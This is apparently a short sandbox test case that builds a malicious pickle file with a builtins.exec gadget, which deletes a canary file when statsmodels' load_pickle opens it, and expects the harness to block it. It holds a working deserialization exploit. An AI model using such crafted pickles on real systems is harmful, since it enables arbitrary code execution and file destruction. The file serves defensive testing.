# attack: statsmodels.iolib.smpickle.load_pickle on a crafted file (builtins.exec gadget)
# expect: rejected denied error crashed pending_review
# check: canary
# %%
import numpy as np

code = 'import os; os.remove("{CANARY_DIR}/keep.txt")'
payload = ("cbuiltins\nexec\n(S'" + code + "'\ntR.").encode()
np.frombuffer(payload, dtype=np.uint8).tofile("model.pickle")
# %%
from statsmodels.iolib.smpickle import load_pickle

load_pickle("model.pickle")
